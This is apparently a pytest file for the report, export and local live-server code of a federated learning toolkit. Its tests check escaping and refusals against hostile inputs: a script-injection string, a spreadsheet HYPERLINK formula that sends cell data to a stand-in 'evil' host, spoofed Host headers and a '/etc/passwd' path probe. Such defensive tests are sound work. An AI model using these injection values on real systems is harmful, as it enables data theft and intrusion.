"""The page as text, the files of an export, and the live server."""

import csv
import hashlib
import http.client
import io
import json
import re
import socket
import threading
import time
from importlib.resources import files

import fake
import pytest

from kairosfl.errors import UserError
from kairosfl.report.export import as_csv, as_latex, export_figures, export_tables
from kairosfl.report.page import verdict, write_report
from kairosfl.report.read import read_groups
from kairosfl.report.static import draw_comparison
from kairosfl.report.tables import paired_tests, results
from kairosfl.report.watch import LivePage, serve


def data_of(text):
    return json.loads(
        re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.DOTALL)[1]
    )


VENDOR = files("kairosfl.report") / "assets" / "vendor"
LICENCE = VENDOR / "plot-0.6.17.LICENSE.txt"


@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    return fake.write_sweep(tmp_path_factory.mktemp("sweep"), seeds=3, rounds=20)


def test_the_library_of_charts_is_the_recorded_one_and_reports_have_its_licence(sweep, tmp_path):
    recorded = dict(
        reversed(line.split()) for line in (VENDOR / "SHA256SUMS").read_text().splitlines()
    )
    made = [path for path in VENDOR.iterdir() if path.name.endswith(".min.js")]
    assert {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in made} == recorded
    text = write_report([sweep], tmp_path / "report.html").read_text()
    assert LICENCE.read_text() in text
    assert made[0].read_text() in text


def test_one_page_holds_all_and_names_no_other_place(sweep, tmp_path):
    text = write_report([sweep], tmp_path / "deep" / "report.html").read_text()
    assert [group["label"] for group in data_of(text)["groups"]] == list(fake.ALGORITHMS)
    text = text.replace(LICENCE.read_text(), "")
    names = {
        "2000/svg",
        "1999/xhtml",
        "1999/xlink",
        "2000/xmlns/",
        "XML/1998/namespace",
    }  # of XML, not to be opened
    assert set(re.findall(r"https?://[^\s\"'<]+", text)) == {
        f"http://www.w3.org/{name}" for name in names
    }
    assert "connect-src 'none'" in text
    assert "kairosfl run cifar10.toml" in text
    assert "partition_seed = -1" in text
    assert "Fisher trace (the FedFIM detector did not run; add fedfim to run.detector)" in text
    assert list((tmp_path / "deep").iterdir()) == [tmp_path / "deep" / "report.html"]


def test_text_from_a_folder_is_escaped(tmp_path):
    run = fake.write_run(tmp_path / "a", rounds=2)
    about = json.loads((run / "run.json").read_text()) | {
        "command": "<script>alert(1)</script>",
        "device": "<b>",
    }
    (run / "run.json").write_text(json.dumps(about))
    text = write_report([run], tmp_path / "report.html").read_text()
    assert "<script>alert" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.parametrize(
    ("tops", "seeds", "sentence"),
    [
        ([0.5, 0.7], 3, "points above <b>a</b>, the baseline (95 % interval +"),
        ([0.7, 0.5], 3, "<b>a</b>, the baseline, reaches"),
        ([0.5, 0.5001], 3, "the difference is not statistically significant"),
        ([0.5, 0.7], 1, "They share only one seed: the difference may be due to chance."),
        ([0.5], 1, "MB and 600 client epochs."),
    ],
)
def test_the_verdict_says_how_far_it_can_be_trusted(tmp_path, tops, seeds, sentence):
    fake.write_sweep(
        tmp_path, seeds=seeds, algorithms=dict(zip(["a", "bb"], tops, strict=False)), rounds=20
    )
    groups = read_groups([tmp_path])
    assert sentence in verdict(results(groups, 0.3), paired_tests(groups))


def test_a_page_about_runs_that_go_on_says_so(tmp_path):
    run = fake.write_run(tmp_path / "a", rounds=3, planned=10, done=False)
    text = write_report([run], tmp_path / "report.html").read_text()
    assert "unfinished, 3 of 10 rounds" in text
    assert "So far <b>fedavg</b>" in text


def test_a_sweep_counts_the_runs_that_have_not_begun(tmp_path):
    fake.write_sweep(tmp_path / "s", seeds=1, rounds=5)
    listed = json.loads((tmp_path / "s" / "sweep.json").read_text())["runs"]
    more = [{"name": f"later{i}", "path": f"later{i}", "settings": {}} for i in range(2)]
    (tmp_path / "s" / "sweep.json").write_text(json.dumps({"runs": listed + more}))
    for folders in ([tmp_path / "s"], [tmp_path, tmp_path / "s"]):
        text = write_report(folders, tmp_path / "report.html").read_text()
        assert "4 of 6 runs finished, 20 of 30 rounds" in text


def test_a_run_that_stopped_is_not_taken_for_one_that_goes_on(tmp_path):
    run = fake.write_run(tmp_path / "a", rounds=12, planned=60, done=False)
    rows = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    nothing = {
        "reported": 0,
        "epochs_total": 0,
        "fgn": None,
        "client_accuracy_mean": None,
        "client_accuracy_worst": None,
    }
    (run / "metrics.jsonl").write_text("".join(json.dumps(row | nothing) + "\n" for row in rows))
    (run / "log.txt").write_text(
        "round 12: no good report\nstopped: 10 rounds in a row had no good report.\n"
    )
    text = write_report([run], tmp_path / "report.html").read_text()
    assert "<span>stopped: 10 rounds in a row had no good report." in text
    assert "So far" not in text
    assert "Federated gradient norm (no round had a good report)" in text
    assert "Fisher trace (the FedFIM detector did not run" in text
    assert "Accuracy per client (it was not requested" in text
    assert (
        "Accuracy against local epochs (metrics.jsonl holds no evaluated round with its epochs)"
        in text
    )


def test_beside_a_run_that_stopped_another_goes_on(tmp_path):
    for seed in (0, 1):
        fake.write_run(tmp_path / str(seed), seed=seed, rounds=12, planned=60, done=False)
    (tmp_path / "0" / "log.txt").write_text("stopped: it was too long.\n")
    text = write_report([tmp_path], tmp_path / "report.html").read_text()
    assert "0 of 2 runs finished, 24 of 120 rounds; 1 of 2 runs stopped: it was too long." in text
    assert "So far <b>fedavg</b>" in text
    (tmp_path / "0" / "log.txt").write_text("stopped: it was too long.\nresumed after round 12\n")
    assert "runs stopped" not in write_report([tmp_path], tmp_path / "report.html").read_text()


def test_a_run_that_has_next_to_nothing_still_makes_a_page(tmp_path):
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare" / "metrics.jsonl").write_text('{"round": 1, "accuracy": null}\n')
    text = write_report([tmp_path / "bare"], tmp_path / "report.html").read_text()
    assert "No round has been evaluated yet." in text
    assert data_of(text)["lines"] == data_of(text)["heats"] == []


def test_a_page_about_many_groups_looks_into_the_first_of_them(tmp_path):
    fake.write_sweep(
        tmp_path / "s",
        seeds=1,
        algorithms={f"rule{i}": 0.5 for i in range(14)},
        rounds=2,
        clients=12,
    )
    text = write_report([tmp_path / "s"], tmp_path / "report.html").read_text()
    heats = {heat["key"] for heat in data_of(text)["heats"]}
    assert heats == {f"{kind}-{i}" for i in range(12) for kind in ("partition", "weights")}
    assert len(data_of(text)["groups"]) == 14
    assert text.count("Heat maps (a page has heat maps of its first 12 groups") == 2


def test_an_empty_folder_is_refused_and_nothing_is_written(tmp_path):
    with pytest.raises(UserError, match="contains no run"):
        write_report([tmp_path], tmp_path / "report.html")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("kind", "start"),
    [
        pytest.param("svg", b"<?xml", marks=pytest.mark.slow),
        ("pdf", b"%PDF"),
        pytest.param("png", b"\x89PNG", marks=pytest.mark.slow),
    ],
)
def test_every_picture_is_exported(tmp_path, kind, start):
    run = fake.write_run(
        tmp_path / "run", algorithm="fedaware", rounds=4, clients=5, detector="fgn.paired()"
    )
    written = export_figures([run], tmp_path / "out", kind)
    curves = (
        "accuracy accuracy-bytes accuracy-epochs loss train-loss client-accuracy client-quantiles"
    )
    curves += " fgn elud coherence"
    assert [path.stem for path in written] == [
        *curves.split(),
        "partition-A",
        "weights-A",
        "lambda-A",
    ]
    assert all(path.read_bytes().startswith(start) for path in written)
    captions = (tmp_path / "out" / "captions.txt").read_text().splitlines()
    assert (
        captions[0]
        == f"accuracy.{kind}: Accuracy by round. 1 seed. Shaded: critical learning periods."
    )
    assert len(captions) == len(written)
    if kind == "svg":
        again = export_figures([run], tmp_path / "again", kind)
        assert [path.read_bytes() for path in again] == [path.read_bytes() for path in written]


def test_an_unknown_kind_of_picture_is_refused(tmp_path):
    with pytest.raises(UserError, match="kind = 'gif' is not a picture format; use svg, pdf, png"):
        export_figures([tmp_path], tmp_path, "gif")


def test_tables_are_exported_as_csv_and_latex(sweep, tmp_path):
    written = export_tables([sweep], tmp_path, target=0.5)
    assert [path.name for path in written] == [
        "results.csv",
        "results.tex",
        "tests.csv",
        "tests.tex",
    ]
    first, *_ = rows = list(csv.DictReader((tmp_path / "results.csv").open()))
    assert (first["label"], first["target"], first["seeds"], first["rounds"]) == (
        "fedavg",
        "0.5",
        "3",
        "20.0",
    )
    table = (tmp_path / "results.tex").read_text().splitlines()
    shown = next(line for line in table if line.startswith("FedAvg &")).split(" & ")[1]
    assert (
        f"{100 * float(first['last_tenth']):.2f} $\\pm$ {100 * float(first['last_tenth_deviation']):.2f}"
        == shown
    )
    assert all(
        re.fullmatch(r"-?[\d.e-]*", value)
        for row in rows
        for key, value in row.items()
        if "_" in key
    )
    assert len(list(csv.DictReader((tmp_path / "tests.csv").open()))) == 4


def test_runs_that_were_never_evaluated_are_exported_with_gaps(tmp_path):
    run = fake.write_run(tmp_path / "a", rounds=3)
    fake.edit(run, accuracy=None)
    export_tables([run], tmp_path)
    (row,) = csv.DictReader((tmp_path / "results.csv").open())
    assert (row["target"], row["last_tenth"], row["last_tenth_count"], row["rounds"]) == (
        "",
        "",
        "0",
        "3.0",
    )


@pytest.fixture
def problems(tmp_path):
    """Two algorithms on two deals of the data, two seeds each; the easy deal is ahead whatever the
    algorithm.
    """
    for alpha, tops in ((0.1, (0.4, 0.5)), (1.0, (0.8, 0.7))):
        for algorithm, top in zip(("fedavg", "scaffold"), tops, strict=True):
            for seed in (0, 1):
                folder = tmp_path / f"{algorithm}-{alpha}-{seed}"
                fake.write_run(
                    folder, algorithm=algorithm, seed=seed, rounds=20, top=top, alpha=alpha
                )
    return tmp_path


def test_algorithms_on_other_data_are_not_ranked_against_each_other(problems):
    groups = read_groups([problems])
    assert [group.problem for group in groups] == ["alpha=0.1", "alpha=1.0"] * 2
    pairs, rows = paired_tests(groups), results(groups, 0.5)
    assert [(pair.first, pair.second) for pair in pairs] == [
        ("fedavg · alpha=0.1", "scaffold · alpha=0.1"),
        ("fedavg · alpha=1.0", "scaffold · alpha=1.0"),
    ]
    said = verdict(rows, pairs)
    assert said.index("scaffold · alpha=0.1</b> reaches") < said.index(
        "fedavg · alpha=1.0</b>, the baseline, reaches"
    )
    page = write_report([problems], problems / "report.html").read_text()
    assert page.count(">baseline</td>") == 2
    best = re.findall(r'<tr data-group="(\d)">(?:(?!</tr>).)*class="best"', page)
    assert [groups[int(i)].label for i in best] == ["fedavg · alpha=1.0", "scaffold · alpha=0.1"]


def test_each_problem_with_an_algorithm_of_its_own_is_named(tmp_path):
    fake.write_run(tmp_path / "a", algorithm="fedavg", alpha=0.1, rounds=5)
    fake.write_run(tmp_path / "b", algorithm="scaffold", alpha=1.0, rounds=5)
    groups = read_groups([tmp_path])
    assert [group.label for group in groups] == ["fedavg · alpha=0.1", "scaffold · alpha=1.0"]
    page = write_report([tmp_path], tmp_path / "report.html").read_text()
    assert "Compared with" not in page


@pytest.mark.parametrize(
    ("dealt", "facts"),
    [
        (None, "dirichlet partition · α = 0.1 · "),  # a folder that does not record it
        (
            "iid",
            "iid partition · epochs ",
        ),  # of a task without classes, say, whose settings were left out
        ("", "clients given · epochs "),  # by the data, whatever the settings are by default
    ],
)
def test_the_page_says_how_the_samples_came_to_the_clients(tmp_path, dealt, facts):
    run = fake.write_run(tmp_path / "run", alpha=0.1, rounds=5)
    if dealt is not None:
        about = json.loads((run / "run.json").read_text())
        (run / "run.json").write_text(json.dumps(about | {"partition": dealt}))
    text = write_report([run], tmp_path / "report.html").read_text()
    assert f" a round · 5 rounds · {facts}" in text


def test_the_same_samples_are_the_same_problem_however_they_were_asked_for(tmp_path):
    for alpha in (0.3, 0.5):  # of an IID partition, say
        run = fake.write_run(tmp_path / str(alpha), alpha=alpha, rounds=5)
        about = json.loads((run / "run.json").read_text())
    for hashes in (about["data_hashes"], {}):  # data that come with a library have none
        for run in tmp_path.iterdir():
            (run / "run.json").write_text(
                json.dumps(about | {"population_hash": "5e1f", "data_hashes": hashes})
            )
        assert [group.problem for group in read_groups([tmp_path])] == ["", ""]
        assert len(paired_tests(read_groups([tmp_path]))) == 1


def test_twins_on_the_same_samples_are_told_apart_beside_other_data(tmp_path):
    for alpha in (0.3, 0.5, 0.9):
        run = fake.write_run(tmp_path / str(alpha), alpha=alpha, rounds=5)
        about = json.loads((run / "run.json").read_text())
        (run / "run.json").write_text(
            json.dumps(about | {"population_hash": "5e1f" if alpha < 0.9 else "77"})
        )
    groups = read_groups([tmp_path])
    assert [group.problem for group in groups] == ["alpha=0.3", "alpha=0.3", "alpha=0.9"]
    assert len({group.label for group in groups}) == 3
    (pair,) = paired_tests(groups)
    assert {pair.first, pair.second} == {groups[0].label, groups[1].label}


def test_data_without_checksums_are_told_apart_by_their_name(tmp_path):
    for name in ("cifar10", "digits"):
        run = fake.write_run(tmp_path / name, rounds=5)
        about = json.loads((run / "run.json").read_text())
        (run / "run.json").write_text(
            json.dumps(about | {"population_hash": "5e1f", "data_hashes": {}})
        )
        text = (run / "config.toml").read_text()
        (run / "config.toml").write_text(text.replace('"cifar10"', f'"{name}"'))
    assert [group.problem for group in read_groups([tmp_path])] == ["cifar10", "digits"]


def test_p_values_do_not_depend_on_runs_with_other_data(problems):
    both = paired_tests(read_groups([problems]))
    alone = paired_tests(read_groups(sorted(problems.glob("*-0.1-*"))))
    assert [pair.adjusted for pair in alone] == [both[0].adjusted] == [both[0].p]


def test_augmented_runs_have_the_same_data(tmp_path):
    for name in ("plain", "crops"):
        run = fake.write_run(tmp_path / name, rounds=5)
        if name == "crops":
            config = run / "config.toml"
            config.write_text(config.read_text().replace("[data]", "[data]\naugment = true"))
    assert [group.problem for group in read_groups([tmp_path])] == ["", ""]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1"]
)
def test_csv_defuses_what_a_spreadsheet_would_evaluate(text):
    (row,) = csv.DictReader(
        io.StringIO(as_csv([{"algorithm": text, "gain": -1.5, "plain": "a=b"}]), newline="")
    )
    assert row == {"algorithm": f"'{text}", "gain": "-1.5", "plain": "a=b"}


def test_latex_escapes_what_it_would_take_for_a_command():
    assert as_latex([{"a_b": "50 %", "c": "1 ± 2"}]) == (
        "\\begin{tabular}{lr}\n\\toprule\na\\_b & c \\\\\n\\midrule\n50 \\% & 1 $\\pm$ 2 \\\\\n"
        "\\bottomrule\n\\end{tabular}\n"
    )


@pytest.mark.parametrize(
    ("kind", "start"), [("svg", b"<?xml"), ("pdf", b"%PDF"), ("png", b"\x89PNG")]
)
def test_the_quick_look_is_of_the_kind_that_its_name_says(sweep, tmp_path, kind, start):
    text = draw_comparison([sweep], tmp_path / f"look.{kind}").read_bytes()
    assert text.startswith(start)
    assert b"<text" not in text  # an SVG has paths, which look the same everywhere


@pytest.fixture
def server(tmp_path):
    with serve(tmp_path, port=0) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield running
        running.shutdown()


def get(server, path="/", host=None):
    connection = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=10)
    connection.request("GET", path, headers={"Host": host} if host else {})
    answer = connection.getresponse()
    text = answer.read().decode()
    connection.close()
    return answer.status, text


def test_the_live_page_is_sent_anew_only_when_something_changed(server, tmp_path):
    status, text = get(server)
    assert status == 200
    assert "Waiting for the first round." in text
    mark = re.search(r'data-mark="(\w+)"', text)[1]
    assert get(server, f"/?since={mark}") == (204, "")
    fake.write_run(tmp_path / "a", rounds=2)
    deadline = time.monotonic() + 20  # the server rests a little between two looks at the folder
    while (answer := get(server, f"/?since={mark}"))[0] == 204 and time.monotonic() < deadline:
        time.sleep(0.05)
    status, text = answer
    assert status == 200
    assert data_of(text)["groups"][0]["label"] == "fedavg"
    assert "connect-src 'self'" in text


def test_the_server_listens_here_only_and_answers_to_no_other_name(server):
    assert server.server_address[0] == "127.0.0.1"
    assert get(server, host="evil.example")[0] == 403
    assert get(server, host="localhost:1")[0] == 200
    assert get(server, "/etc/passwd")[0] == 404


@pytest.mark.parametrize(
    ("lines", "status"),
    [
        (["GET / HTTP/1.1", "Host: ["], 403),
        (["GET / HTTP/1.1", "Host: evil.example@localhost"], 403),
        (["GET / HTTP/1.1", "Host: localhost", "Host: evil.example"], 403),
        (["GET / HTTP/1.1", "Host: localhost/../x"], 403),
        (["GET / HTTP/1.1"], 403),
        (["GET http://evil.example/ HTTP/1.1", "Host: localhost"], 404),
        (["GET //[ HTTP/1.1", "Host: localhost"], 404),
        (["GET / HTTP/1.1", "Host: LOCALHOST:8765"], 200),
        (["GET / HTTP/1.1", "Host: [::1]:8765"], 200),
        (["GET /"], None),
    ],
)
def test_a_request_that_no_browser_sends_is_answered_at_once_and_prints_nothing(
    server, lines, status, capsys
):
    with socket.create_connection(server.server_address, timeout=10) as peer:
        end = "" if status is None else "Connection: close\r\n\r\n"
        peer.sendall(("".join(f"{line}\r\n" for line in lines) + end).encode())
        answer = b"".join(iter(lambda: peer.recv(1 << 16), b""))
    assert answer.split()[1:2] == ([str(status).encode()] if status else [])
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (BrokenPipeError(), ""),
        (KeyError("x\ny"), "kairosfl: a request failed: KeyError: 'x\\ny'\n"),
    ],
)
def test_a_peer_that_goes_away_is_no_traceback_and_a_fault_is_one_line(server, capsys, error, said):
    try:
        raise error
    except type(error):
        server.handle_error(None, None)
    assert capsys.readouterr().err == said


def test_the_live_page_counts_to_the_target_that_is_asked_for(tmp_path):
    fake.write_run(tmp_path / "a", rounds=2)
    assert data_of(LivePage(tmp_path, 0.25).newer(""))["target"] == 0.25
    with pytest.raises(UserError, match="target = 25 is not an accuracy"):
        serve(tmp_path, port=0, target=25)


def test_a_taken_port_and_a_missing_folder_are_named(server, tmp_path):
    with pytest.raises(UserError, match=r"Cannot serve on 127\.0\.0\.1"):
        serve(tmp_path, server.server_port)
    with pytest.raises(UserError, match="port = 99999 is not a port"):
        serve(tmp_path, 99999)
    with pytest.raises(UserError, match="nowhere does not exist; give the folder"):
        serve(tmp_path / "nowhere")
